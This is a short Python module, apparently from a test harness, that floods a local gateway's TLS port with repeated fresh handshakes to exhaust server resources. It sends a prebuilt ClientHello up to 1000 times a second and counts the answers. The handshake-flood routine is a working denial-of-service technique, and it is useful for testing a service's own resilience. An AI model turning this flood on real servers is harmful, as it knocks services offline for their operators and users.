"""TLS handshakes, one after the other, each on a new connection: a handshake costs a server more than a client that throws
its answer away. A stranger's: it sends a ClientHello, reads what comes and goes."""
import socket
import ssl
import time

POINT = 12
PER_S = 1000


def hello():
    """The bytes of a ClientHello."""
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    context.set_alpn_protocols(["h2"])
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    client = context.wrap_bio(incoming, outgoing, server_hostname="localhost")
    try:
        client.do_handshake()
    except ssl.SSLWantReadError:
        pass
    return outgoing.read()


def shake(port, first):
    """True when the gateway answered the hello."""
    with socket.create_connection(("127.0.0.1", port), 2) as sock:
        sock.sendall(first)
        return len(sock.recv(65536)) > 0


def attack(target, stop, per_s=PER_S):
    counts = {"tried": 0, "answered": 0, "refused": 0}
    first, began = hello(), time.monotonic()
    while not stop.is_set():
        counts["tried"] += 1
        try:
            counts["answered" if shake(target.tls, first) else "refused"] += 1
        except OSError:
            counts["refused"] += 1
        stop.wait(max(0.0, counts["tried"] / (per_s * target.share) - (time.monotonic() - began)))
    return counts
